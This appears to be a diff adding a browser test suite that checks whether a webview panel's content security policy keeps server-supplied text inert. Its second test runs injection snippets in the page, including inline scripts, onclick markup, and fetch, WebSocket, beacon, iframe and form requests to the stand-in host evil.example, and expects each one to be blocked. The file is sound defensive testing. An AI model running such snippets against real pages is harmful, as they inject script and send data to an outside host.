@@ -1,0 +1,159 @@
+/** A server's text in the panel: in a real browser, under the panel's own policy, it stays text. */
+import assert from 'node:assert/strict';
+import { fields, panelState, ready } from '../fixtures/panelStates';
+import { hostileStrings } from '../support/hostileStrings';
+import { type PanelBrowser, type PanelPage, startPanelBrowser } from '../support/webviewPage';
+
+describe('panel: hostile text', () => {
+  let browser: PanelBrowser;
+  let panel: PanelPage;
+  before(async () => {
+    browser = await startPanelBrowser();
+  });
+  after(() => browser.close());
+  beforeEach(async () => {
+    panel = await browser.open();
+  });
+  afterEach(() => panel.close());
+
+  /** The text wherever a server's text can be. */
+  const everywhere = (text: string) =>
+    panelState(
+      ready({
+        fields: fields({ saved: { first_name: text, last_name: text, email: text, telephone: text } }),
+        attributes: [
+          { name: text, label: text, value: text },
+          { name: `${text} `, label: text, value: text, json: true },
+        ],
+        id: text,
+        type: text,
+        times: [{ name: 'created_at', label: 'Created', value: text }],
+        notices: [text],
+        save: {
+          kind: 'failed',
+          problem: { message: text, details: [text], traceId: text, actions: ['retry'] },
+        },
+        relationships: [
+          {
+            name: text,
+            label: text,
+            items: [{ type: text, id: text, label: [text, { time: text }], detail: text }],
+          },
+        ],
+      }),
+      { title: text, organisation: text },
+    );
+  /** Elements that no panel has: made of somebody's text. */
+  const foreign =
+    'img, iframe, object, embed, a[href], form[action], style, base, meta[http-equiv=refresh], body script:not([nonce]), [onerror], [onload], [onfocus], svg a';
+  const drawn = () =>
+    panel.page.evaluate((selector) => {
+      const { hacked } = window as Window & { hacked?: boolean };
+      return { hacked, foreign: document.querySelectorAll(selector).length };
+    }, foreign);
+  for (const [what, text] of Object.entries(hostileStrings))
+    it(`is text everywhere, whole in its field, and drawn soon: ${what}`, async () => {
+      const own = (await drawn()).foreign;
+      const started = performance.now();
+      await panel.show(everywhere(text));
+      const took = performance.now() - started;
+      assert.deepEqual(await drawn(), { hacked: undefined, foreign: own });
+      // A field is one line: the browser takes line breaks out of it, and nothing else.
+      const whole = text.replace(/[\r\n]/g, '').length;
+      const length = () =>
+        panel.page.evaluate(() => document.querySelector<HTMLInputElement>('#last_name')?.value.length ?? 0);
+      assert.equal(await length(), whole);
+      const typed = performance.now();
+      await panel.page.locator('#last_name').press('End');
+      await panel.page.keyboard.press('Backspace');
+      const edits = (await panel.posts()).filter(({ type }) => type === 'edit');
+      assert.deepEqual(
+        edits.map((edit) => edit.type === 'edit' && edit.value.length),
+        [await length()],
+      );
+      assert.ok((await length()) < whole, 'it can be shortened');
+      assert.deepEqual(await panel.complaints(), []);
+      assert.ok(took < 3000, `${took} ms`);
+      const took2 = performance.now() - typed;
+      assert.ok(took2 < 3000, `${took2} ms`);
+      if (text.length > 100_000)
+        console.log(`      drawn in ${Math.round(took)} ms, a key in ${Math.round(took2)} ms`);
+    });
+
+  it('may not become more: the policy of the real document refuses every way', async () => {
+    await panel.show(everywhere('x'));
+    const attempts: readonly [string, string][] = [
+      [
+        'an inline script',
+        `const s = document.createElement('script'); s.textContent = 'window.hacked = true'; document.body.append(s)`,
+      ],
+      [
+        'a script of another place',
+        `const s = document.createElement('script'); s.src = location.origin + '/panel.js'; document.body.append(s)`,
+      ],
+      [
+        'a handler in markup',
+        `document.querySelector('main').insertAdjacentHTML('beforeend', '<i onclick="window.hacked = true">x</i>'); document.querySelector('main > i').click()`,
+      ],
+      [
+        'an inline style',
+        `document.querySelector('main').insertAdjacentHTML('beforeend', '<b style="color: red">x</b>')`,
+      ],
+      [
+        'an own style sheet',
+        `const s = document.createElement('style'); s.textContent = '* { color: red }'; document.head.append(s)`,
+      ],
+      [
+        'a remote style sheet',
+        `const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = 'https://evil.example/x.css'; document.head.append(s)`,
+      ],
+      [
+        'a picture',
+        `document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' }))`,
+      ],
+      ['a picture of its own place', `document.body.append(Object.assign(new Image(), { src: '/x.png' }))`],
+      [
+        'a font',
+        `document.fonts.add(new FontFace('x', 'url(https://evil.example/x.woff)')); document.fonts.load('1em x').catch(() => 0)`,
+      ],
+      ['a request', `fetch('https://evil.example/').catch(() => 0)`],
+      ['a socket', `try { new WebSocket('wss://evil.example/') } catch {}`],
+      ['a beacon', `navigator.sendBeacon('https://evil.example/')`],
+      [
+        'a frame',
+        `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
+      ],
+      [
+        'an object',
+        `document.body.append(Object.assign(document.createElement('object'), { data: 'https://evil.example/' }))`,
+      ],
+      ['a sound', `document.body.append(Object.assign(new Audio(), { src: 'https://evil.example/' }))`],
+      ['a worker', `try { new Worker('/panel.js') } catch {}`],
+      [
+        'a manifest',
+        `document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: '/x.json' }))`,
+      ],
+      [
+        'a base',
+        `document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`,
+      ],
+      [
+        'a form',
+        `const f = Object.assign(document.createElement('form'), { action: 'https://evil.example/' }); document.body.append(f); f.submit()`,
+      ],
+    ];
+    const open: string[] = [];
+    for (const [what, code] of attempts) {
+      const before = (await panel.complaints()).length;
+      await panel.page.evaluate(code);
+      const end = Date.now() + 1500;
+      while ((await panel.complaints()).length === before && Date.now() < end)
+        await new Promise((resolve) => setTimeout(resolve, 20));
+      // A manifest is asked for by a browser that can install pages only.
+      if ((await panel.complaints()).length === before && what !== 'a manifest') open.push(what);
+    }
+    assert.deepEqual(open, []);
+    assert.equal((await drawn()).hacked, undefined);
+    assert.match(panel.page.url(), /^http:\/\/127\.0\.0\.1/);
+  });
+});
